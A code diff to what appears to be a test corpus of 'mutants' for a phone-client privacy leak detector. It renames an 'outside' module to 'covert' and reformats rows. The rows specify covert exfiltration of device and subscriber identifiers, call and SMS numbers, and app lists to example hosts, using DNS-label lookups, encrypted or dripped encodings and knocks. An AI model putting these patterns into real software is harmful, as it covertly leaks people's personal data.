@@ -6,7 +6,7 @@ or by what it says about the phone.
 
 from typing import Final
 
-from client_sim.lab.mutants import encodings, outside, places, sources, triggers
+from client_sim.lab.mutants import covert, encodings, places, sources, triggers
 from client_sim.lab.mutants.rows import Row, beneath
 
 _STATISTICS: Final = "stats.example.org"
@@ -20,14 +20,20 @@ _FORM: Final = (encodings.AES_CBC, encodings.BASE64, encodings.QUOTED)
 
 ROWS: Final = (
     # Plain values, including the reports of 2014.
-    Row("register-2014", "L01", sources.REPORT_2014, (), outside.post(_ACCOUNTS, "/pass/register")),
+    Row(
+        "register-2014",
+        "L01",
+        sources.REPORT_2014,
+        (),
+        covert.post(_ACCOUNTS, "/pass/register"),
+    ),
     Row(
         *("activate-messaging", "L01", sources.detail("sim-inserted", "imsi"), ()),
-        outside.post(_ACCOUNTS, "/messaging", "sim-inserted"),
+        covert.post(_ACCOUNTS, "/messaging", "sim-inserted"),
     ),
     beneath(
         *("register-beneath", "L01", sources.IMSI, ()),
-        outside.post(_ACCOUNTS, "/sim", "connect", 443),
+        covert.post(_ACCOUNTS, "/sim", "connect", 443),
     ),
     Row("imei-query", "L02", sources.IMEI, (encodings.QUOTED,), places.query("i")),
     Row("phone-fragment", "L02", sources.PHONE, (encodings.QUOTED,), places.behind_path("#")),
@@ -69,7 +75,7 @@ ROWS: Final = (
     # Encrypted: with a key that all phones share, one that is sent along, or one of the system.
     Row(
         *("aes-form-2014", "L07", sources.FORM_2014, _FORM),
-        outside.post("", "/updates/ask", begin="s=1&t=&q="),
+        covert.post("", "/updates/ask", begin="s=1&t=&q="),
     ),
     Row(
         *("aes-counter-query", "L07", sources.IMSI, (encodings.AES_CTR, encodings.HEX)),
@@ -133,7 +139,7 @@ ROWS: Final = (
     Row("over-requests", "L13", sources.IMSI, (), places.OVER_REQUESTS),
     beneath("halves-beneath", "L13", sources.IMEI, (), places.HALVES),
     Row("root-drip", "L14", sources.IMEI, (encodings.DRIP,), places.ROOT_VERSION),
-    Row("name-drip", "L14", sources.IMEI, (encodings.DRIP,), outside.lookup("{}.edge.{host}")),
+    Row("name-drip", "L14", sources.IMEI, (encodings.DRIP,), covert.lookup("{}.edge.{host}")),
     beneath("root-drip-beneath", "L14", sources.IMEI, (encodings.DRIP,), places.ROOT_VERSION),
     # Honest requests in a revealing form: case, order, length, spaces, method, version.
     Row(
@@ -170,24 +176,30 @@ ROWS: Final = (
         places.rewritten(b"HTTP/1.1", b"HTTP/1.0", "as the version of HTTP"),
     ),
     # Hosts, names and other parties.
-    Row("label-host", "L20", sources.IMEI, _LABEL, outside.HOST_LABEL),
-    Row("port-by-digit", "L20", sources.IMEI, (encodings.at(9),), outside.PORT),
+    Row("label-host", "L20", sources.IMEI, _LABEL, covert.HOST_LABEL),
+    Row("port-by-digit", "L20", sources.IMEI, (encodings.at(9),), covert.PORT),
     beneath("host-line-beneath", "L20", sources.WIFI_MAC, _LABEL, places.HOST_LINE),
-    Row("serial-lookup", "L21", sources.SERIAL, (), outside.lookup("{}.t.example.org")),
+    Row("serial-lookup", "L21", sources.SERIAL, (), covert.lookup("{}.t.example.org")),
     Row(
         *("sender-lookup", "L21", sources.detail("sms-received", "number"), (encodings.LABEL,)),
-        outside.lookup("{}.sms.example.org", "sms-received"),
+        covert.lookup("{}.sms.example.org", "sms-received"),
     ),
-    beneath("label-lookup-beneath", "L21", sources.IMEI, _LABEL, outside.lookup("{}.{host}")),
+    beneath("label-lookup-beneath", "L21", sources.IMEI, _LABEL, covert.lookup("{}.{host}")),
     Row(
         *("call-reporter", "L22", sources.detail("call-received", "number"), ()),
-        outside.post(_STATISTICS, "/call", "call-received"),
+        covert.post(_STATISTICS, "/call", "call-received"),
     ),
-    Row("knock", "L22", sources.IMEI, _BIT, outside.knock(_STATISTICS)),
-    Row("address-without-name", "L22", sources.IMEI, (), outside.datagram_address("203.0.113.9")),
+    Row("knock", "L22", sources.IMEI, _BIT, covert.knock(_STATISTICS)),
+    Row(
+        "address-without-name",
+        "L22",
+        sources.IMEI,
+        (),
+        covert.datagram_address("203.0.113.9"),
+    ),
     beneath(
         *("report-beneath", "L22", sources.ANDROID_ID, _SHORT),
-        outside.post(_STATISTICS, "/m", "connect", 443),
+        covert.post(_STATISTICS, "/m", "connect", 443),
     ),
     Row(
         *("catalogue-of-serial", "L23", sources.SERIAL, (encodings.QUOTED,)),
@@ -196,7 +208,7 @@ ROWS: Final = (
     Row("session-parameter", "L23", sources.ICCID, _SHORT, places.behind_path(";s=")),
     beneath(
         *("catalogue-beneath", "L23", sources.GSF_ID, _SHORT),
-        outside.get("", "/v1/catalog/", "connect"),
+        covert.get("", "/v1/catalog/", "connect"),
     ),
     # Headers that libraries and settings add.
     Row(
@@ -235,10 +247,14 @@ ROWS: Final = (
         places.header("X-Carrier"),
     ),
     beneath(
-        "carrier-lookup-beneath", "L27", sources.CARRIER, (encodings.LABEL,), outside.lookup("{}.x")
+        "carrier-lookup-beneath",
+        "L27",
+        sources.CARRIER,
+        (encodings.LABEL,),
+        covert.lookup("{}.x"),
     ),
     Row("exact-date", "L28", sources.NOW, (), places.header("X-Date")),
-    Row("polls-at-night", "L28", sources.OFFSET, (), outside.IN_THE_NIGHT),
+    Row("polls-at-night", "L28", sources.OFFSET, (), covert.IN_THE_NIGHT),
     beneath("zone-beneath", "L28", sources.OFFSET, (), places.header("X-Offset")),
     Row("started-at", "L29", sources.STARTED, (), places.header("X-Since")),
     Row("boot-count", "L29", sources.STARTS, (), places.header("X-Boots")),
@@ -250,7 +266,7 @@ ROWS: Final = (
     Row("apps-digest-query", "L30", sources.APPS, (encodings.digest("md5", 6),), places.query("a")),
     Row(
         *("app-report", "L30", sources.detail("app-installed", "app"), (encodings.QUOTED,)),
-        outside.post("", "/installed", "app-installed"),
+        covert.post("", "/installed", "app-installed"),
     ),
     beneath(
         *("first-app-beneath", "L30", sources.FIRST_APP, (encodings.QUOTED,)),
